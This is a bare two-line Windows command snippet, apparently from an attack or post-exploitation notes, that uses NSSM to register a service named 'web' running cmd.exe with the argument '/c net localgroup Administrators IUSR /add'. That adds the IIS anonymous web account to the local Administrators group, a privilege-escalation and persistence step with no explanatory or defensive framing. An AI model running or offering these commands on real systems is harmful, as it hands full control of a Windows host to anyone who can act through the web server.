nssm install web cmd.exe
nssm set web AppParameters "/c net localgroup Administrators IUSR /add"
